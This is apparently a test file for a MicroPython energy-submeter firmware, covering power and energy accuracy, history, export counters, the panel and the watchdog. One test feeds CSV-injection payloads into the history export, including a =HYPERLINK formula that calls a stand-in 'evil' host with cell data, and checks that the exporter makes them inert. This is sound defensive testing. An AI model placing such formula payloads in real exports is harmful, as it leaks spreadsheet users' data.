# The whole flow on the simulated board: CT waveforms -> RMS -> power -> energy ->
# snapshot, checked against the scenario's truth (within 2 %).
import json

from compat import IS_MP, fresh_dir, skip, press as panel_press
from submeter import config
from submeter.app import App
from submeter.clock import ManualClock
import sim


def make_app(scenario=None, vref=True):
    """The App on the simulated board (vref False: a board without the voltage reference)."""
    clock = ManualClock()
    board = sim.Board(scenario=scenario or sim.Steady(), clock=clock, term="0", display=IS_MP,
                      data_dir=fresh_dir("app"))
    if not vref:
        board.vref = None
        board.mains.drift = False  # V x A x pf at the nominal 230 V: the mains at 230 V
    cfg = config.validate(board.CONFIG)
    board.configure(cfg)
    return App(board, cfg), clock


def test_power_per_input_matches_truth():
    app, clock = make_app()
    watts = app.measure_round()
    for i, truth in enumerate(sim.Steady.watts):  # (one reading: the ADC's noise scatters it by a few W)
        assert abs(watts[i] - truth) <= 0.02 * truth + 5, (i, watts[i], truth)
    s = app.state()
    assert [x["w"] for x in s["inputs"]] == [round(w, 1) for w in watts]
    assert s["inputs"][1]["w"] == 0.0   # the idle circuit reads 0 W


def test_the_state_names_the_code_each_hot_loop_runs():
    # viper where the port has a native emitter, the Python twin elsewhere: the CT sums,
    # both grid decoders' scanners (grid: auto makes both) and, once a display driver
    # loaded it, the page sync
    from drivers import fbsync
    app, clock = make_app()
    s = app.state()["sampling"]
    want = "viper" if IS_MP else "python"
    assert s["kernels"] == {"sums": want, "ticscan": want, "p1scan": want, "gridscan": want, "fbsync": want}
    assert fbsync.KERNEL == want and s["kernel"] == want  # (sums', as before)


def test_an_input_beyond_its_range_says_so():
    # 40 kW through a 90 A CT on 8.2 ohm drives the ADC to its rails: the reading is low,
    # and the input's `clipped` count tells the installer why (burden or CT too big)
    class Big(sim.Steady):
        watts = (40000.0, 0.0, 1500.0, 450.0, 230.0)
    app, clock = make_app(Big())
    app.measure_round()
    s = app.state()
    assert s["inputs"][0]["clipped"] >= 1 and s["inputs"][0]["w"] < 40000.0 * 0.98
    assert [x["clipped"] for x in s["inputs"][1:]] == [0, 0, 0, 0]


def test_energy_over_an_hour_of_scenario_time():
    app, clock = make_app()
    app.measure_round()
    for _ in range(360):
        clock.advance(10000)
        app.measure_round()
    s = app.state()
    for i, truth in enumerate(sim.Steady.watts):  # one hour: Wh == W
        assert abs(s["inputs"][i]["wh"] - truth) <= 0.02 * truth + 1, (i, s["inputs"][i]["wh"])
    exact_mj = sum(t.wh * 3600000 + t.mj for t in app.ledger.total)
    assert s["total_wh"] == exact_mj // 3600000     # the total rounds the exact sum, once
    assert json.loads(json.dumps(s)) == s


def test_house_scenario_follows_the_day():
    app, clock = make_app(sim.House())
    board = app.board
    board.time.start = 23.75 * 3600       # hot water heats off-peak
    app.measure_round()
    assert abs(app.ledger.power[2] - 3000.0) <= 60.0
    board.time.start = 12.1 * 3600        # lunch: cooking on the socket circuit
    app.measure_round()
    assert app.ledger.power[3] >= 2500.0 * 0.98
    assert app.ledger.power[1] == 0.0     # cooling idle in winter


def test_power_uses_the_grid_meters_voltage_while_it_is_fresh():
    # without the voltage reference: V x A x pf, V the grid meter's while fresh
    app, clock = make_app(vref=False)
    app.grid.reading.voltage_v = [240, 236, 232]  # as a three-phase meter reports them
    app.grid.last_frame_ms = clock.ticks_ms()
    base = app.measure_round()[0]
    assert app.meter.voltage(1, clock.ticks_ms()) == 240 and app.meter.voltage(3, clock.ticks_ms()) == 232
    current = app.meter.channels[0].irms
    assert abs(base - 240 * current) < 0.01
    clock.advance(61000)  # no frame for a minute: back to the nominal voltage
    w = app.measure_round()[0]
    assert abs(w - 230.0 * app.meter.channels[0].irms) < 0.01
    s = app.state()
    assert s["inputs"][0]["method"] == "v_pf" and s["mains"]["reference"] is False


def test_with_the_reference_power_is_measured_and_says_so():
    # the reference's mains, real power signed, the method named; the grid meter's voltage
    # (fresh) is what the reference's scale follows
    app, clock = make_app()
    app.grid.reading.voltage_v = [240]
    app.grid.last_frame_ms = clock.ticks_ms()
    for _ in range(10):
        clock.advance(1000)
        app.grid.last_frame_ms = clock.ticks_ms()
        app.measure_round()
    s = app.state()
    assert s["mains"]["reference"] is True and 49.9 < s["mains"]["hz"] < 50.1
    assert abs(s["mains"]["v"] - 240) < 2   # matched to the grid meter's 240 V (its mains is ~231 V)
    for i, truth in enumerate(sim.Steady.watts):
        inp = s["inputs"][i]
        assert inp["method"] == "vi" and not inp["reversed"]
        assert abs(inp["w"] - truth * s["mains"]["v"] / app.board.mains.vrms) <= 0.02 * truth + 1, (i, inp)


def test_the_meters_clock_dates_the_history_and_midnight_closes_the_month():
    from submeter.clock import day_number
    app, clock = make_app()
    board = app.board
    board.time.day0 = day_number(2026, 11, 30)
    board.time.start = 24 * 3600 - 90              # 23:58:30 on the meter's clock
    g = app.grid
    g.use("tic_standard")
    port = board.grid_port(g.kind)
    app.measure_round()
    assert app.state()["month"] is None            # no date yet: nothing to count a day in
    for _ in range(36):                            # three minutes, read every 5 s
        clock.advance(5000)
        g.poll(port, clock.ticks_ms())
        app.measure_round()
    s = app.state()
    assert s["time"]["source"] == "meter" and s["time"]["local"].startswith("2026-12-01 00:01")
    assert s["month"]["date"] == "2026-12" and s["today"]["date"] == "2026-12-01"
    day = app.history.read(True, day_number(2026, 11, 30))
    month = app.history.read(False, 322)           # November 2026
    assert day is not None and month is not None and month.wh == day.wh
    assert abs(day.wh[0] - 2000 * 85 / 3600) <= 2000 * 6 / 3600  # heating, 23:58:35 to midnight
    assert s["history"]["writes"] == 2 and s["history"]["errors"] == 0


def test_energy_given_back_shows_in_the_state_apart_from_what_is_taken():
    from submeter.clock import day_number
    app, clock = make_app()
    app.measure_round()
    s = app.build_snapshot()  # (as after a metering round)
    assert [x["export_wh"] for x in s["inputs"]] == [0] * 5 and s["inputs"][0]["export_kwh"] == "0.000"
    day = day_number(2026, 11, 30)
    app.history.tick(app.ledger, day, app.cfg)        # a day begins: today and this month count
    s = app.build_snapshot()
    assert s["today"]["export_wh"] == [0] * 5 and s["month"]["export_wh"] == [0] * 5  # there, zeros
    led = app.ledger
    taken = led.total[3].wh
    led._last[3] = None
    for k in range(361):                              # an hour at -1800 W: a battery giving back
        led.record(3, -1800.0, k * 10000)
    s = app.build_snapshot()
    x = s["inputs"][3]
    assert x["w"] == -1800.0 and x["export_wh"] == 1800 and x["export_kwh"] == "1.800"
    assert x["partial_export_kwh"] == "1.800" and x["wh"] == taken  # nothing taken off the import
    assert s["today"]["export_wh"] == [0, 0, 0, 1800, 0] == s["month"]["export_wh"]
    app.reset_partial(3)
    assert app.build_snapshot()["inputs"][3]["partial_export_kwh"] == "0.000"
    assert app.build_snapshot()["inputs"][3]["export_kwh"] == "1.800"


def test_a_partial_reset_is_on_flash_at_once():
    import asyncio
    from submeter.ledger.ledger import Ledger
    from submeter.ledger.store import Store
    app, clock = make_app()
    app.measure_round()
    for _ in range(30):
        clock.advance(10000)
        app.measure_round()
    app.wall.set_utc(board_utc(app), "rtc")
    app.reset_partial(2)                           # the panel's long press on input 3's screen
    s = app.state()
    assert s["inputs"][2]["partial_kwh"] == "0.000" and s["inputs"][2]["partial_since"].startswith("2026-")
    assert s["inputs"][0]["partial_kwh"] == s["inputs"][0]["kwh"]

    async def one_second():
        t = asyncio.create_task(app.store.keep(app.ledger, app.clock, app.cfg["save_s"] * 1000, app.tasks))
        await asyncio.sleep_ms(50)
        t.cancel()
    asyncio.run(one_second())
    back = Ledger(5)
    Store(app.board.data_dir).load(back)           # a power cut now: the reset stays done
    assert back.partial[2].wh == 0 and back.partial_since[2] == app.ledger.partial_since[2]
    assert back.partial[0].wh == app.ledger.partial[0].wh > 0


def board_utc(app):
    return app.board.utc_s()


def test_totals_per_usage_and_per_tariff_period():
    app, clock = make_app()
    app.cfg["inputs"][4]["usage"] = "sockets"      # two circuits of socket outlets
    app.measure_round()
    for _ in range(60):
        clock.advance(10000)
        app.measure_round()
    s = app.state()
    ins = s["inputs"]
    assert s["usages"]["sockets"]["wh"] == ins[3]["wh"] + ins[4]["wh"] > 0
    assert s["usages"]["heating"]["wh"] == ins[0]["wh"] and "other" not in s["usages"]
    assert abs(sum(u["cost"] for u in s["usages"].values()) - s["total_cost"]) <= 0.02
    assert sum(s["periods_wh"]) == sum(sum(i["periods_wh"]) for i in ins)


def test_the_snapshot_is_made_when_read_not_at_every_round():
    # A round nobody reads (the panel asleep, no page open, between MQTT messages) makes no
    # snapshot (~10 KB of garbage each); the next read makes one, with that round's
    # figures, and every reader of the same round gets that one.
    app, clock = make_app()
    made = [0]
    build = app.build_snapshot

    def counted():
        made[0] += 1
        return build()
    app.build_snapshot = counted
    for _ in range(5):  # rounds nobody reads
        clock.advance(1000)
        for _ in app.meter.round_slices():
            pass
        app.after_round()
    assert made[0] == 0
    s = app.state()
    assert made[0] == 1 and [x["w"] for x in s["inputs"]] == [round(w, 1) for w in app.ledger.power]
    assert app.state() is s and made[0] == 1  # the same round: the same snapshot
    if IS_MP:  # (the screens need framebuf)
        sc = app.panel.screens
        sc.wake()
        app.after_round()
        app.panel.drawn_at = None
        app.panel.step(clock.ticks_ms())  # awake: it draws this round's snapshot
        assert made[0] == 2
        clock.advance(app.cfg["screen_sleep_s"] * 1000)
        app.panel.step(clock.ticks_ms())
        assert sc.asleep
        for _ in range(3):  # asleep: it draws nothing and reads no snapshot
            clock.advance(1000)
            app.after_round()
            app.panel.step(clock.ticks_ms())
        assert made[0] == 2, made
        app.reset_partial(None)  # a command: its answer reads the snapshot it changed
        assert app.state()["inputs"][0]["partial_wh"] == 0 and made[0] == 3


def test_the_panel_resets_a_partial_after_asking():
    if not IS_MP:
        return  # the screens need framebuf (MicroPython): the logic is in test_ui on both
    app, clock = make_app()
    app.measure_round()
    for _ in range(30):
        clock.advance(10000)
        app.measure_round()

    def press(name, ms=80):
        panel_press(app, clock, name, ms)

    for name in ("down", "down", "down", "down", "ok"):    # sockets, its partial counter
        press(name)
    assert app.panel.screens.page == "sockets" and app.panel.screens.detail
    before = app.ledger.partial[3].wh
    press("back", 2000)                                   # held: "reset?"
    assert app.panel.screens.confirm and app.ledger.partial[3].wh == before > 0
    press("ok")                                           # yes
    assert app.ledger.partial[3].wh == 0 and app.ledger.partial[0].wh > 0
    assert app.state()["inputs"][3]["partial_kwh"] == "0.000"
    d = app.board.display                                 # the screen says so, then shows 0
    assert d.frames > 0
    app.panel.screens.notice_text = None
    app.panel.drawn_at = None
    app.panel.step(clock.ticks_ms())
    from submeter.panel.screens import BigText
    import framebuf
    ref = framebuf.FrameBuffer(bytearray(1024), 128, 64, framebuf.MONO_VLSB)
    BigText(8).draw(ref, "0.000", 0, 14)
    assert all(d.fb.pixel(x, y) == ref.pixel(x, y) for y in range(14, 30) for x in range(128))


def test_the_power_led_blinks_on_a_fault():
    app, clock = make_app()
    led = app.board.leds["power"]
    seen = set()
    for k in range(10):
        app.panel.step(k * 100)
        seen.add(led.value())
    assert seen == {1}                                   # all well: steady
    app.config_error = "config.json ignored: bad"
    seen = [None] * 20
    for k in range(20):
        app.panel.step(k * 100)
        seen[k] = led.value()
    assert seen.count(0) >= 8 and seen.count(1) >= 8    # a fault: it blinks, once a second
    app.config_error = None
    app.store.folder = app.board.data_dir + "/no-such-folder"
    app.store.save_or_log(app.ledger)                   # the flash refuses: a fault too
    assert app.fault()


def csv_rows(text):
    # an RFC 4180 reader (quoted fields, doubled quotes, CR LF inside quotes)
    rows, row, cell, i, quoted = [], [], "", 0, False
    while i < len(text):
        c = text[i]
        if quoted:
            if c == '"' and text[i + 1:i + 2] == '"':
                cell += '"'
                i += 1
            elif c == '"':
                quoted = False
            else:
                cell += c
        elif c == '"':
            quoted = True
        elif c == ",":
            row.append(cell)
            cell = ""
        elif c == "\r" and text[i + 1:i + 2] == "\n":
            row.append(cell)
            rows.append(row)
            row, cell = [], ""
            i += 1
        else:
            cell += c
        i += 1
    assert not row and not cell and not quoted, "the CSV ends mid-line"
    return rows


def test_history_csv_quotes_text_and_makes_formulas_inert():
    from submeter.config import USAGES
    from submeter.net import api
    app, clock = make_app()
    cur = 'E,"x"\r\n=HYPERLINK("http://evil/?"&A1)'
    app.cfg["currency"] = cur

    class Rec:  # a day of export: a negative cost stays a number; its text cells as given
        def __init__(self, date):
            self.date = date

        def to_dict(self, daily):
            u = {"wh": 1500, "cost": -0.25}
            return {"date": self.date, "wh": -2500, "cost": -0.5, "usage": {k: u for k in USAGES},
                    "gas_l": 0, "gas_cost": 0.0, "water_l": 0, "water_cost": 0.0,
                    "export_wh": [0, 1234, 0, 0, 5][:n]}
    n = len(app.cfg["inputs"])
    texts = ["2026-11-27", "=HYPERLINK(1)", "+1", "-x", "@SUM(A1)", '=a,"b"', "EUR"]
    app.history.records = lambda kind, count: [Rec(t) for t in texts]
    ctype, body = api.history_csv({"query": "days=7"}, app.state, app)  # GET /api/history.csv?days=7
    raw = b"".join(body()).decode()
    rows = csv_rows(raw)
    assert len(rows) == 8 and len(rows[0]) == len(rows[1]) == 7 + 2 * len(USAGES) + n
    assert rows[0][2] == "total_cost_" + cur and rows[0][-1 - n] == "water_cost_" + cur
    # the energy given back, a column per input, in kWh to the Wh
    assert rows[0][-n:] == ["export_kwh_%d" % (k + 1) for k in range(n)] and n == 5
    assert rows[1][-n:] == ["0.000", "1.234", "0.000", "0.000", "0.005"]
    assert rows[1][:3] == ["2026-11-27", "-2.500", "-0.50"] and float(rows[1][4]) == -0.25
    assert [r[0] for r in rows[2:]] == ["'=HYPERLINK(1)", "'+1", "'-x", "'@SUM(A1)", "'=a,\"b\"", "EUR"]
    assert '"\'=a,""b"""' in raw  # (as written: quoted, its quotes doubled)


def test_a_metering_round_that_raises_is_counted_and_metering_goes_on():
    # a CT whose read_u16 raises once (a TypeError: a driver bug): that round is cut
    # short and counted in /api/state "tasks"; the meter keeps metering
    import asyncio
    if not IS_MP:
        skip("the metering task times its rounds with MicroPython's time.ticks_ms")
    app, clock = make_app()
    ct = app.meter.channels[0].adc

    def broken():
        del ct.read_u16  # the next reads are the CT's own
        raise TypeError("a driver bug")
    ct.read_u16 = broken

    async def run():
        t = asyncio.create_task(app.metering_task())
        await asyncio.sleep_ms(500)
        t.cancel()
    asyncio.run(run())
    s = app.state()
    assert s["tasks"]["metering"] == 1 and "TypeError" in s["task_error"]
    assert s["sampling"]["rounds"] >= 2
    assert abs(s["inputs"][0]["w"] - sim.Steady.watts[0]) <= 0.02 * sim.Steady.watts[0]
    assert sum(s["tasks"].values()) == 1


def test_a_meter_whose_metering_stops_is_reset_by_the_watchdog_and_says_so():
    # the metering task feeds the board's watchdog each round; stopped (here: cancelled,
    # as a task stuck for good would be), the watchdog resets the board, and the next
    # start counts it and says it on the page, the panel and MQTT, until the start after
    import asyncio
    from submeter import sense
    from submeter.net import mqtt
    from submeter.net.page import page_chunks
    if not IS_MP:
        skip("the metering task times its rounds with MicroPython's time.ticks_ms")
    folder = fresh_dir("watchdog")

    def start():
        clock = ManualClock()
        board = sim.Board(scenario=sim.Steady(), clock=clock, term="0", display=IS_MP, data_dir=folder)
        cfg = config.validate(dict(board.CONFIG, period_ms=100))
        board.configure(cfg)
        return App(board, cfg)
    app = start()
    board = app.board
    assert app.reset_cause == "power" and app.notices == [] and app.state()["boot"]["watchdog_resets"] == 0
    saved, sense.WATCHDOG_MS = sense.WATCHDOG_MS, 300
    fed = [0, 0]

    async def run():
        dog = asyncio.create_task(board.watchdog_task())
        meter = asyncio.create_task(app.metering_task())
        await asyncio.sleep_ms(800)
        fed[0] = app.meter.wdt.feeds if app.meter.wdt else 0
        assert not board.stopping()              # fed each round: no reset while it meters
        meter.cancel()                           # the metering stops
        await asyncio.sleep_ms(800)
        fed[1] = app.meter.wdt.feeds
        dog.cancel()
    try:
        asyncio.run(run())
    finally:
        sense.WATCHDOG_MS = saved
    assert fed[0] >= 3 and app.meter.wdt.timeout_ms == 300 and fed[1] == fed[0]
    assert board.stopping()                      # reset (the host's run stops)
    app = start()                                # the next start
    s = app.state()
    assert app.reset_cause == "watchdog" and s["boot"]["watchdog_resets"] == 1
    page = b"".join(bytes(c) for c in page_chunks(s, app.cfg)).decode()
    assert "Restarted by the watchdog" in page and "(1 such resets in all)" in page
    assert json.loads(mqtt.state(s))["notices"] == "watchdog"
    if app.panel.screens:  # the panel's home screen: its title's tag
        tags = []
        app.panel.screens._title = lambda d, text, tag="": tags.append(tag)
        app.panel.step(0)
        assert tags == ["WDT!"]
    app = start()                                # and the one after: nothing to say, still counted
    s = app.state()
    assert app.reset_cause == "power" and s["notices"] == [] and s["boot"]["watchdog_resets"] == 1
    assert "watchdog" not in b"".join(bytes(c) for c in page_chunks(s, app.cfg)).decode()
    assert json.loads(mqtt.state(s))["notices"] == "none"
